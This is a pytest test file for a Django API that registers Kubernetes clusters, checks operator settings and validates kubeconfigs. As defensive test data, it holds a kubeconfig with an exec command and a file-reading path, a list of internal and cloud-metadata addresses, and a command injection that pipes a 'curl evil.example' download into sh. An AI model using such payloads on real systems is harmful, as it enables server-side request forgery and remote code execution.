"""/api/v1/clusters: the shared local cluster and an organization's Kubernetes clusters."""

from __future__ import annotations

import threading
from typing import Any

import kubernetes_validate
import pytest
from django.db import IntegrityError, connection, transaction
from django.test.utils import CaptureQueriesContext

from controlplane.models import AuditEvent
from deployments.cluster_settings import parse_settings
from deployments.clusters.drivers import kube_options
from deployments.clusters.models import Cluster
from deployments.clusters.services import default_cluster
from deployments.drivers.kube.render import render_revision
from deployments.endpoints.models import Deployment
from tests.api.conftest import SPEC, Clients, error_of, fields_of, spec_with
from tests.drivers.reference_specs import REF, load_spec, revision_plan
from tests.drivers.test_manifests import K8S_VERSIONS

CLUSTER = {"name": "gpu-east", "namespace": "inference", "kubeconfig_secret_id": "kubeconfig"}


def _kubeconfig(api: Clients) -> None:
    api.alice.post("secrets", {"name": "kubeconfig", "value": "apiVersion: v1\nkind: Config\n"})


def test_the_local_cluster_is_there_for_everyone(api: Clients) -> None:
    [local] = api.carol.get("clusters").json()["items"]
    assert local["kind"] == "local" and local["shared"] is True
    assert api.bob.get(f"clusters/{local['id']}").json()["name"] == "local"
    refused = api.alice.delete(f"clusters/{local['id']}")
    assert refused.status_code == 409 and error_of(refused)["code"] == "built_in"


def test_a_shared_cluster_name_is_unique_too(api: Clients) -> None:
    # No organization is NULL, and NULLs compare equal in this constraint: one shared "local".
    shared = Cluster.objects.get(organization=None)
    with pytest.raises(IntegrityError), transaction.atomic():
        Cluster.objects.create(name=shared.name, kind="local", namespace="local")


def test_an_admin_adds_a_kubernetes_cluster_and_endpoints_can_use_it(api: Clients) -> None:
    _kubeconfig(api)
    response = api.alice.post("clusters", CLUSTER)
    assert response.status_code == 201, response.content
    cluster = response.json()
    assert cluster["kind"] == "kubernetes" and cluster["shared"] is False
    created = api.dave.post(
        "deployments", {"slug": "chat", "spec": SPEC, "cluster_id": cluster["id"]}
    )
    assert created.json()["cluster"]["name"] == "gpu-east"
    in_use = api.alice.delete(f"clusters/{cluster['id']}")
    assert in_use.status_code == 409
    assert api.bob.get(f"clusters/{cluster['id']}").status_code == 404
    foreign = api.bob.post("deployments", {"slug": "x", "spec": SPEC, "cluster_id": cluster["id"]})
    assert fields_of(foreign) == ["cluster_id"]


def test_cluster_refusals(api: Clients) -> None:
    assert api.dave.post("clusters", CLUSTER).status_code == 403
    assert fields_of(api.alice.post("clusters", CLUSTER)) == ["kubeconfig_secret_id"]
    _kubeconfig(api)
    assert fields_of(api.alice.post("clusters", {**CLUSTER, "name": "GPU"})) == ["name"]
    assert fields_of(api.alice.post("clusters", {**CLUSTER, "namespace": "a_b"})) == ["namespace"]
    assert fields_of(api.alice.post("clusters", {**CLUSTER, "kind": "local"})) == ["kind"]
    assert api.alice.post("clusters", CLUSTER).status_code == 201
    assert api.alice.post("clusters", CLUSTER).status_code == 409


def test_removing_an_unused_cluster(api: Clients) -> None:
    _kubeconfig(api)
    cluster_id = api.alice.post("clusters", CLUSTER).json()["id"]
    assert api.bob.delete(f"clusters/{cluster_id}").status_code == 404
    assert api.dave.delete(f"clusters/{cluster_id}").status_code == 403
    assert api.alice.delete(f"clusters/{cluster_id}").status_code == 204
    assert api.alice.get("clusters").json()["count"] == 1


def test_clusters_are_listed_in_pages_at_the_same_cost_for_2_as_for_8(
    api: Clients, django_assert_num_queries: Any
) -> None:
    _kubeconfig(api)
    for n in range(2):
        assert api.alice.post("clusters", {**CLUSTER, "name": f"gpu-{n}"}).status_code == 201
    api.carol.get("clusters")  # warm the key's last-used stamp
    with CaptureQueriesContext(connection) as captured:
        assert api.carol.get("clusters?limit=200").json()["count"] == 3  # and the local one
    few = len(captured)  # now: the next request's start clears the log it reads
    assert few > 0
    for n in range(2, 8):
        assert api.alice.post("clusters", {**CLUSTER, "name": f"gpu-{n}"}).status_code == 201
    with django_assert_num_queries(few):
        assert api.carol.get("clusters?limit=200").json()["count"] == 9

    seen: list[str] = []
    page = api.carol.get("clusters?limit=4").json()
    while True:
        assert len(page["items"]) <= 4 and page["count"] == 9
        seen += [c["name"] for c in page["items"]]
        if page["next"] is None:
            break
        page = api.carol.get(page["next"]).json()
    assert seen == sorted(seen) and len(set(seen)) == 9 and "local" in seen
    assert all(c["settings"] is None for c in api.carol.get("clusters").json()["items"])
    refused = api.carol.get("clusters?limit=0")
    assert refused.status_code == 422 and fields_of(refused) == ["limit"]


def test_a_kubeconfig_that_would_run_commands_or_read_files_is_refused(api: Clients) -> None:
    hostile = (
        "apiVersion: v1\nkind: Config\n"
        "clusters: [{name: c, cluster: {server: 'http://10.0.0.1',"
        " certificate-authority: /etc/x}}]\n"
        "users: [{name: u, user: {exec: {command: sh, args: [-c, 'id']}}}]\n"
    )
    api.alice.post("secrets", {"name": "kubeconfig", "value": hostile})
    refused = api.alice.post("clusters", CLUSTER)
    assert fields_of(refused) == ["kubeconfig_secret_id"]
    message = error_of(refused)["message"]
    assert "users[].user.exec is not allowed" in message
    assert "certificate-authority is not allowed" in message
    assert "must be an https:// URL" in message
    assert "'id'" not in message  # the kubeconfig's values are never echoed


def test_a_secret_in_use_by_a_cluster_cannot_be_deleted(api: Clients) -> None:
    _kubeconfig(api)
    api.alice.post("clusters", CLUSTER)
    [secret] = api.alice.get("secrets").json()["items"]
    refused = api.alice.delete(f"secrets/{secret['id']}")
    assert refused.status_code == 409
    assert "in use" in error_of(refused)["message"]


def _kubeconfig_for(server: str, **cluster: str) -> str:
    extra = "".join(f", {k}: {v}" for k, v in cluster.items())
    return (
        "apiVersion: v1\nkind: Config\n"
        f"clusters: [{{name: c, cluster: {{server: '{server}'{extra}}}}}]\n"
        "users: [{name: u, user: {token: t}}]\n"
        "contexts: [{name: c, context: {cluster: c, user: u}}]\ncurrent-context: c\n"
    )


def _attach(api: Clients, server: str, **cluster: str) -> Any:
    api.alice.post("secrets", {"name": "kubeconfig", "value": _kubeconfig_for(server, **cluster)})
    return api.alice.post("clusters", CLUSTER)


@pytest.mark.parametrize(
    "server",
    [
        "https://127.0.0.1:6443",
        "https://[::1]:6443",
        "https://localhost:6443",
        "https://169.254.169.254",
        "https://metadata.google.internal",
        "https://[fd00:ec2::254]",
        "https://10.0.0.1:6443",
        "https://[fe80::1]:6443",
        "https://[::ffff:127.0.0.1]:6443",
        "https://2130706433:6443",
        "https://0177.0.0.1:6443",
        "https://0.0.0.0:6443",
        "https://k8s.invalid:6443",  # resolved when saved: a name that resolves nowhere
    ],
)
def test_an_api_server_the_worker_must_not_call_is_refused(api: Clients, server: str) -> None:
    refused = _attach(api, server)
    assert refused.status_code == 422
    assert fields_of(refused) == ["kubeconfig_secret_id"]
    message = error_of(refused)["message"]
    assert "clusters[].cluster.server: the host" in message
    host = server.removeprefix("https://").rsplit(":", 1)[0].strip("[]")
    assert host not in message  # the kubeconfig's values are never echoed


def test_proxies_and_unverified_tls_are_refused_unless_the_operator_allows_them(
    api: Clients, settings: Any
) -> None:
    insecure = {"insecure-skip-tls-verify": "true"}
    refused = _attach(api, "https://8.8.8.8", **insecure)
    assert fields_of(refused) == ["kubeconfig_secret_id"]
    assert "insecure-skip-tls-verify is not allowed" in error_of(refused)["message"]
    proxied = {"proxy-url": "'http://8.8.4.4:3128'"}
    refused = _attach(api, "https://8.8.8.8", **proxied)
    assert "proxy-url is not allowed" in error_of(refused)["message"]
    settings.PLINTH_KUBE_ALLOW_PROXY = True
    settings.PLINTH_KUBE_ALLOW_INSECURE_TLS = True
    assert _attach(api, "https://8.8.8.8", **insecure, **proxied).status_code == 201


def test_the_operator_may_allow_private_ranges_and_named_hosts(api: Clients, settings: Any) -> None:
    settings.PLINTH_KUBE_ALLOW_PRIVATE = True
    refused = _attach(api, "https://127.0.0.1:6443")  # loopback stays refused
    assert fields_of(refused) == ["kubeconfig_secret_id"]
    private = _attach(api, "https://10.0.0.1:6443")
    assert private.status_code == 201
    settings.PLINTH_KUBE_ALLOW_HOSTS = ["127.0.0.1"]
    assert api.alice.delete(f"clusters/{private.json()['id']}").status_code == 204
    assert _attach(api, "https://127.0.0.1:6443").status_code == 201


# --- operator settings and the GPU inventory ---------------------------------------------------

OPERATOR_SETTINGS: dict[str, Any] = {
    "gpu_map": {"h100": {"label": "cloud.google.com/gke-accelerator", "values": ["nvidia-h100"]}},
    "topology_label": "topology.kubernetes.io/zone",
    "node_selector": {"pool": "inference"},
    "tolerations": [{"key": "dedicated", "value": "llm", "effect": "NoSchedule"}],
    "priority_class_name": "llm-serving",
    "runtime_class_name": "nvidia",
    "service_account_name": "engine",
    "image_pull_secrets": ["regcred"],
    "engine_images": {"0.5.23": "registry.example.com/sglang:0.5.23"},
    "router_image": "registry.example.com/smg:1.13.0",
    "model_cache": {"type": "claim", "claim_name": "models"},
    "benchmark_aiperf": {"type": "image", "image": "registry.example.com/plinth/aiperf:0.13.0"},
    "labels": {"team": "ml"},
    "annotations": {"example.com/owner": "ml-platform"},
    "tenant_overrides": ["env"],
}


def test_operator_settings_round_trip_from_the_api_to_valid_manifests(api: Clients) -> None:
    _kubeconfig(api)
    cluster = api.alice.post("clusters", CLUSTER).json()
    assert cluster["settings"]["tenant_overrides"] == [
        "engine_image", "router_image", "env", "extra_flags",
    ]  # fmt: skip  # the defaults: endpoints keep every override they had
    changed = api.alice.patch(f"clusters/{cluster['id']}", {"settings": OPERATOR_SETTINGS})
    assert changed.status_code == 200, changed.content
    shown = api.alice.get(f"clusters/{cluster['id']}").json()["settings"]
    assert shown == parse_settings(OPERATOR_SETTINGS).stored()  # every default made explicit
    assert shown["tolerations"] == [
        {"key": "dedicated", "operator": "Equal", "value": "llm", "effect": "NoSchedule",
         "toleration_seconds": None}
    ]  # fmt: skip
    # The H100 entry is the operator's; the rest of the catalogue keeps its defaults.
    assert shown["gpu_map"]["H100-SXM"]["label"] == "cloud.google.com/gke-accelerator"
    assert shown["gpu_map"]["H200"] == {
        "label": "nvidia.com/gpu.product",
        "values": ["NVIDIA-H200"],
    }
    # Only admins see settings; everyone sees where GPUs are.
    assert api.carol.get(f"clusters/{cluster['id']}").json()["settings"] is None
    assert AuditEvent.objects.filter(action="cluster.update").count() == 1
    # Where benchmarks get AIPerf: by default an image (no package index), null meaning the
    # platform's; here the operator's mirror.
    assert cluster["settings"]["benchmark_aiperf"] == {"type": "image", "image": None}
    assert shown["benchmark_aiperf"] == OPERATOR_SETTINGS["benchmark_aiperf"]

    options = kube_options(Cluster.objects.get(pk=cluster["id"]))
    for name in ("llama-3.1-8b-h100", "deepseek-v3-tp16-2x-h200"):
        objs = render_revision(REF, revision_plan(load_spec(name)), options)
        engine = next(o for o in objs if o["metadata"]["name"] == "chat-engine")
        assert engine["metadata"]["labels"]["team"] == "ml"
        for obj in objs:
            if obj["kind"] != "LeaderWorkerSet":
                for version in K8S_VERSIONS:
                    kubernetes_validate.validate(obj, version, strict=True)


def test_operator_settings_are_checked_when_saved_and_admins_only(
    api: Clients, endpoint: Deployment
) -> None:
    _kubeconfig(api)
    cluster = api.alice.post("clusters", CLUSTER).json()
    path = f"clusters/{cluster['id']}"
    assert api.dave.patch(path, {"settings": {}}).status_code == 403
    assert api.bob.patch(path, {"settings": {}}).status_code == 404
    refusals = {
        "labels": {"plinth.dev/deployment": "x"},  # Plinth's own keys
        "node_selector": {"pool": "not a label value"},
        "image_pull_secrets": ["Not_A_Name"],
        "engine_images": {"0.0.1": "x"},
        "gpu_map": {"no-such-gpu": {"values": ["x"]}},
        "tolerations": [{"operator": "Exists", "value": "x"}],
        "model_cache": {"type": "host_path", "path": "../etc"},
        "benchmark_aiperf": {"type": "image", "image": "aiperf; curl evil.example | sh"},
    }
    for key, value in refusals.items():
        refused = api.alice.patch(path, {"settings": {key: value}})
        assert refused.status_code == 422, (key, refused.content)
        assert fields_of(refused)[0].startswith(f"settings.{key}"), (key, fields_of(refused))
    assert api.alice.patch(path, {"settings": {"surprise": 1}}).status_code == 422
    # A password in a package index's URL would be in every benchmark Job's command line.
    with_password = {"type": "pip", "index_url": "https://me:hunter2@pypi.internal/simple"}
    refused = api.alice.patch(path, {"settings": {"benchmark_aiperf": with_password}})
    assert refused.status_code == 422
    assert fields_of(refused) == ["settings.benchmark_aiperf.pip.index_url"]
    assert "hunter2" not in str(AuditEvent.objects.values_list("after", flat=True))
    local = next(c for c in api.alice.get("clusters").json()["items"] if c["kind"] == "local")
    assert error_of(api.alice.patch(f"clusters/{local['id']}", {"settings": {}}))["code"] == (
        "built_in"
    )
    assert local["settings"] is None
    # The namespace moves only while nothing runs there.
    assert api.alice.patch(path, {"namespace": "other"}).json()["namespace"] == "other"
    api.dave.post("deployments", {"slug": "k", "spec": SPEC, "cluster_id": cluster["id"]})
    in_use = api.alice.patch(path, {"namespace": "third"})
    assert in_use.status_code == 409 and fields_of(in_use) == ["namespace"]


def test_a_cluster_refuses_what_its_operator_keeps_and_warns_from_its_gpus(api: Clients) -> None:
    _kubeconfig(api)
    cluster = api.alice.post(
        "clusters", {**CLUSTER, "settings": {"tenant_overrides": ["env"]}}
    ).json()
    own_image = spec_with(runtime={"image": "tenant.example.com/sglang:mine"})
    refused = api.dave.post(
        "deployments", {"slug": "chat", "spec": own_image, "cluster_id": cluster["id"]}
    )
    assert refused.status_code == 422 and fields_of(refused) == ["spec.runtime.image"]
    # On the local cluster the spec's image is the spec's business.
    assert api.dave.post("deployments", {"slug": "chat", "spec": own_image}).status_code == 201

    h200_only = {
        "nodes": [
            {"name": "n1", "gpu": "H200", "product": "NVIDIA-H200", "allocatable": 8,
             "allocated": 8, "schedulable": True},
        ],
        "gpus": {"H200": {"nodes": 1, "gpus": 8, "free": 0}},
        "error": "",
    }  # fmt: skip
    Cluster.objects.filter(pk=cluster["id"]).update(gpu_inventory=h200_only)
    seen = api.carol.get(f"clusters/{cluster['id']}").json()["gpu_inventory"]
    assert seen["gpus"] == {"H200": {"nodes": 1, "gpus": 8, "free": 0}}
    created = api.dave.post(
        "deployments", {"slug": "h100", "spec": SPEC, "cluster_id": cluster["id"]}
    )
    assert created.status_code == 201
    assert [w["code"] for w in created.json()["warnings"]] == ["no_gpu_nodes"]
    assert "H100-SXM" in created.json()["warnings"][0]["message"]
    busy = api.dave.post(
        "deployments",
        {"slug": "h200", "spec": spec_with(hardware={"gpu": "H200"}), "cluster_id": cluster["id"]},
    )
    assert [w["code"] for w in busy.json()["warnings"]] == ["too_few_free_gpus"]


def test_the_dry_run_checks_against_a_chosen_cluster(api: Clients) -> None:
    _kubeconfig(api)
    cluster = api.alice.post("clusters", {**CLUSTER, "settings": {"tenant_overrides": []}}).json()
    Cluster.objects.filter(pk=cluster["id"]).update(
        gpu_inventory={"nodes": [], "gpus": {}, "error": ""}
    )
    spec = spec_with(runtime={"image": "tenant.example.com/sglang:mine"})
    assert api.dave.post("validate", {"spec": spec}).json()["valid"] is True
    checked = api.dave.post("validate", {"spec": spec, "cluster_id": cluster["id"]}).json()
    assert checked["valid"] is False
    assert {(i["field"], i["code"], i["severity"]) for i in checked["issues"]} >= {
        ("spec.runtime.image", "not_allowed_on_cluster", "error"),
        ("spec.hardware.gpu", "no_gpu_nodes", "warning"),
    }
    assert api.bob.post("validate", {"spec": spec, "cluster_id": cluster["id"]}).status_code == 404


@pytest.mark.django_db(transaction=True)
def test_two_writers_recreating_the_local_cluster_get_the_same_one() -> None:
    Cluster.objects.filter(organization=None).delete()  # as after a flush
    seen: dict[str, Any] = {}

    def second() -> None:
        try:
            seen["second"] = default_cluster().pk
        except Exception as exc:  # the bug this guards: an IntegrityError for the loser
            seen["second"] = exc
        finally:
            connection.close()

    with transaction.atomic():  # the first writer's insert, not yet committed
        first = default_cluster().pk
        racer = threading.Thread(target=second)
        racer.start()
        racer.join(timeout=2)  # it waits on the unique name until this commits
    racer.join(timeout=30)
    assert seen["second"] == first
    assert Cluster.objects.filter(organization=None).count() == 1
